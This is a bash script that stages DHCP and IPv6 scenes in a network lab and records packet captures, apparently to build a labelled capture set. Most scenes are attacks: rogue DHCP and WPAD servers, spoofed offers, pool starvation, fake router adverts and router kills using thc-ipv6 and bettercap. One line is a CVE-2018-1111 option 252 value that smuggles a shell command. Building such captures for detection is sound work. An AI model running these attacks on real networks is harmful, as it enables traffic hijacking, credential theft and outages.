#!/usr/bin/env bash
# Records captures/dhcp: who hands out the address plan. Usage: dhcp.sh [SCENE...]; without arguments all scenes.
# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client radvd thc-ipv6 bettercap keepalived ndisc6 python3 isc-dhcp-server udhcpc dhcpcd-base.
. "$(dirname "$0")/lab.sh"
gw_mac=3c:52:82:11:00:01 rogue_mac=00:0c:29:6e:00:66

# A second server answers with option 252; clients take whichever is faster.
scene_rogue_dhcp_wpad() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host rogue $rogue_mac 10.2.0.66/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.120,1h --domain=corp.example
  dns_dhcp rogue --port=0 --dhcp-range=10.2.0.200,10.2.0.210,2m --dhcp-option=3,10.2.0.1 --dhcp-option=6,10.2.0.1 --domain=corp.example \
    --dhcp-option=252,http://10.2.0.66/wpad.dat
  pause 1
  record_start
  lease pc; pause 0.5; lease lap
}

# The office's one server hands out the office's one PAC URL.
scene_one_server_with_pac() {
  lab_host gw $gw_mac 10.2.0.1/24
  for i in 1 2 3; do lab_host pc$i 3c:52:82:11:00:2$i; done
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.120,1h --domain=corp.example --dhcp-option=252,http://proxy.corp.example/proxy.pac
  pause 1
  record_start
  for i in 1 2 3; do lease pc$i; pause 0.3; done
}

# A failover pair: two servers, equal plans, shared pools.
scene_failover_pair() {
  lab_host dhcp1 3c:52:82:11:00:02 10.2.0.2/24
  lab_host dhcp2 3c:52:82:11:00:03 10.2.0.3/24
  for i in 1 2 3; do lab_host pc$i 3c:52:82:11:00:2$i; done
  local plan=(--port=0 --dhcp-option=3,10.2.0.1 --dhcp-option=6,10.2.0.1 --domain=corp.example --dhcp-option=252,http://proxy.corp.example/proxy.pac)
  dns_dhcp dhcp1 --dhcp-range=10.2.0.100,10.2.0.120,1h "${plan[@]}"
  dns_dhcp dhcp2 --dhcp-range=10.2.0.130,10.2.0.150,1h "${plan[@]}"
  pause 1
  record_start
  for i in 1 2 3; do lease pc$i; pause 0.3; done
}

# A second server names itself router and resolver.
scene_rogue_dhcp_server() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  lab_host rogue $rogue_mac 10.2.0.66/24
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.120,1h --domain=corp.example
  pause 1
  record_start
  lease pc; pause 0.5
  dns_dhcp rogue --dhcp-range=10.2.0.200,10.2.0.210,2m
  pause 1
  lease lap
}

# CVE-2018-1111: option 252 that a careless client script hands to the shell.
scene_dhcp_wpad_malformed() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host rogue $rogue_mac 10.2.0.66/24
  lab_host pc 3c:52:82:11:00:21
  dns_dhcp rogue --port=0 --dhcp-range=10.2.0.200,10.2.0.210,2m --dhcp-option=3,10.2.0.1 --dhcp-option=6,10.2.0.1 "--dhcp-option=252,x'&touch /tmp/owned #"
  pause 1
  record_start
  lease pc
}

# Trailing NUL and newline, and an empty value: what honest servers send for a PAC and for "no proxy".
scene_dhcp_wpad_terminated() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.120,1h --dhcp-mac=set:lap,3c:52:82:11:00:22 --dhcp-option=tag:!lap,252,68:74:74:70:3a:2f:2f:70:2e:63:6f:72:70:2e:65:78:61:6d:70:6c:65:2f:70:2e:70:61:63:0a:00 '--dhcp-option=tag:lap,252,"\n"'
  pause 1
  record_start
  lease pc; lease lap
}

# The real server's address and identifier, somebody else's hardware: a spoofed offer races the real one.
scene_dhcp_identity_mismatch() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  lab_host rogue $rogue_mac 10.2.0.66/24
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.120,1h --domain=corp.example
  pause 1
  record_start
  lease pc; pause 0.3
  daemon rogue /usr/bin/python3 "$make_dir/dhcp_spoofer.py" 10.2.0.1 10.2.0.66
  pause 1
  lease lap
}

scene_dhcp_starvation() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host rogue $rogue_mac 10.2.0.66/24
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.250,1h
  pause 1
  record_start
  try rogue /usr/bin/python3 "$make_dir/dhcp_flood.py" 150
}

# A class-room starts in the morning: thirty machines of one make ask within a few seconds, each once.
scene_classroom_start() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host room 3c:52:82:22:00:01
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.250,1h
  pause 1
  record_start
  try room /usr/bin/python3 "$make_dir/dhcp_classroom.py" 30
}

# A host that is no router answers DHCPv6 with itself as resolver while the site has its router.
scene_rogue_dhcpv6_dns() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host rogue $rogue_mac 10.2.0.66/24 fd00:bad::66/64
  lab_host pc 3c:52:82:11:00:21
  ra gw 2001:db8:2::/64
  record_start
  pause 1
  local ll; ll=$(on rogue ip -6 -br addr show eth0 scope link | awk '{print $3}' | cut -d/ -f1)
  dns_dhcp rogue --dhcp-range=fd00:bad::100,fd00:bad::1ff,64,5m "--dhcp-option=option6:dns-server,[$ll]" --dhcp-option=option6:domain-search,corp.example --address=/#/10.2.0.66
  pause 1
  try pc timeout 8 dhclient -6 -1 -v -sf /bin/true -lf "$lab_tmp/pc6.lease" -pf "$lab_tmp/pc6.pid" eth0
  try pc timeout 3 dig +tries=1 +time=1 @$ll%eth0 wpad.corp.example
}

# The site's router announces itself and its DHCPv6 server hands out the site's resolver.
scene_dhcpv6_site_server() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host pc 3c:52:82:11:00:21
  dns_dhcp gw --enable-ra --dhcp-range=2001:db8:2::100,2001:db8:2::1ff,64,1h --dhcp-option=option6:dns-server,[2001:db8:2::1]
  record_start
  pause 1
  try pc timeout 8 dhclient -6 -1 -sf /bin/true -lf "$lab_tmp/pc6.lease" -pf "$lab_tmp/pc6.pid" eth0
  try pc timeout 3 rdisc6 -1 eth0
}

# thc-ipv6 announces itself as the better router.
scene_rogue_router_advert() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host rogue $rogue_mac 10.2.0.66/24
  lab_host pc 3c:52:82:11:00:21
  ra gw 2001:db8:2::/64
  record_start
  pause 2
  daemon rogue atk6-fake_router26 -A 2001:db8:bad::/64 -D 2001:db8:bad::1 eth0
  pause 5
}

# thc-ipv6 ends the real router's life in the real router's name.
scene_router_killed() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host rogue $rogue_mac 10.2.0.66/24
  lab_host pc 3c:52:82:11:00:21
  ra gw 2001:db8:2::/64
  record_start
  pause 2
  daemon rogue atk6-kill_router6 eth0 "$(on gw ip -6 -br addr show eth0 scope link | awk '{print $3}' | cut -d/ -f1)"
  pause 5
}

# thc-ipv6's DHCPv6 server: addresses and a resolver of a prefix of its own, on a link whose router sends nobody to DHCPv6.
scene_fake_dhcps6() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host rogue $rogue_mac 10.2.0.66/24
  lab_host pc 3c:52:82:11:00:21
  record_start
  ra gw 2001:db8:2::/64
  pause 2
  daemon rogue atk6-fake_dhcps6 eth0 2001:db8:bad::/64 2001:db8:bad::66
  pause 1
  try pc timeout 8 dhclient -6 -1 -sf /bin/true -lf "$lab_tmp/pc6.lease" -pf "$lab_tmp/pc6.pid" eth0
}

# bettercap's DHCPv6 server.
scene_bettercap_dhcpv6() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host rogue $rogue_mac 10.2.0.66/24
  lab_host pc 3c:52:82:11:00:21
  ra gw 2001:db8:2::/64
  record_start
  pause 1
  daemon rogue bettercap -iface eth0 -gateway-override 10.2.0.1 -no-colors -eval 'dhcp6.spoof on'
  pause 4
  try pc timeout 8 dhclient -6 -1 -sf /bin/true -lf "$lab_tmp/pc6.lease" -pf "$lab_tmp/pc6.pid" eth0
}

# Two routers of one site announce the same prefix.
scene_two_site_routers() {
  lab_host r1 $gw_mac 2001:db8:2::1/64
  lab_host r2 3c:52:82:11:00:02 2001:db8:2::2/64
  lab_host pc 3c:52:82:11:00:21
  ra r1 2001:db8:2::/64; ra r2 2001:db8:2::/64
  record_start
  pause 5
  try pc timeout 3 rdisc6 -1 eth0
}

# ra HOST PREFIX: radvd with a resolver of the site.
ra() {
  local name=$1
  printf 'interface eth0 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix %s { }; RDNSS %s1 { }; };\n' "$2" "${2%%/*}" >"$lab_tmp/$name.radvd"
  on "$name" sysctl -qw net.ipv6.conf.all.forwarding=1
  daemon "$name" radvd -n -m stderr -C "$lab_tmp/$name.radvd" -p "$lab_tmp/$name.radvd.pid"
}

# isc_server HOST RANGE [OPTION...]: ISC's dhcpd; each option is a line of its configuration.
isc_server() {
  local name=$1 range=$2; shift 2
  { printf 'option wpad code 252 = text;\nauthoritative;\nping-check false;\ndefault-lease-time 120;\nmax-lease-time 120;\n'
    printf 'subnet 10.2.0.0 netmask 255.255.255.0 {\n  range %s;\n' "$range"; printf '  option %s;\n' "$@"; echo '}'; } >"$lab_tmp/$name.dhcpd"
  : >"$lab_tmp/$name.dhcpd.leases"
  daemon "$name" dhcpd -4 -f -q -cf "$lab_tmp/$name.dhcpd" -lf "$lab_tmp/$name.dhcpd.leases" -pf "$lab_tmp/$name.dhcpd.pid" eth0
}
# Three makes of client, each as it comes: ISC's, BusyBox's, dhcpcd. A mount namespace of its own: dhcpcd keeps its state in /run and /var/lib.
three_clients() {
  lease pc
  pause 0.3
  try lap timeout 8 udhcpc -f -n -q -t 3 -O wpad -O 252 -s /bin/true -i eth0
  pause 0.3
  try tab timeout 10 unshare -m sh -c 'mount -t tmpfs t /run; mount -t tmpfs t /var/lib/dhcpcd 2>/dev/null; exec dhcpcd -4 -1 -t 6 -A -L -G -C resolv.conf -o 252 eth0'
}
three_hosts() { lab_host pc 3c:52:82:11:00:21; lab_host lap 3c:52:82:11:00:22; lab_host tab 3c:52:82:11:00:23; }

# ISC's server as the rogue one: option 252 beside dnsmasq's honest lease, to three makes of client.
scene_isc_rogue_wpad() {
  lab_host gw $gw_mac 10.2.0.1/24
  lab_host rogue $rogue_mac 10.2.0.66/24
  three_hosts
  dns_dhcp gw --dhcp-range=10.2.0.100,10.2.0.120,1h --domain=corp.example
  isc_server rogue '10.2.0.200 10.2.0.210' 'routers 10.2.0.1' 'domain-name-servers 10.2.0.1' 'domain-name "corp.example"' 'wpad "http://10.2.0.66/wpad.dat"'
  pause 1.5
  record_start
  three_clients
}

# ISC's server as the office's one: it hands the one PAC URL to three makes of client.
scene_isc_site_server() {
  lab_host gw $gw_mac 10.2.0.1/24
  three_hosts
  isc_server gw '10.2.0.100 10.2.0.120' 'routers 10.2.0.1' 'domain-name-servers 10.2.0.1' 'domain-name "corp.example"' 'wpad "http://proxy.corp.example/proxy.pac"'
  pause 1.5
  record_start
  three_clients
}

# A workstation's radvd announces itself as router and resolver (RDNSS, RFC 8106) beside the site's.
scene_rogue_radvd() {
  lab_host gw $gw_mac 10.2.0.1/24 2001:db8:2::1/64
  lab_host rogue $rogue_mac 10.2.0.66/24 fd00:bad::1/64
  lab_host pc 3c:52:82:11:00:21
  record_start
  ra gw 2001:db8:2::/64
  pause 5
  ra rogue fd00:bad::/64
  pause 2
  try pc timeout 3 rdisc6 -1 eth0
}

run_scenes dhcp "$@"
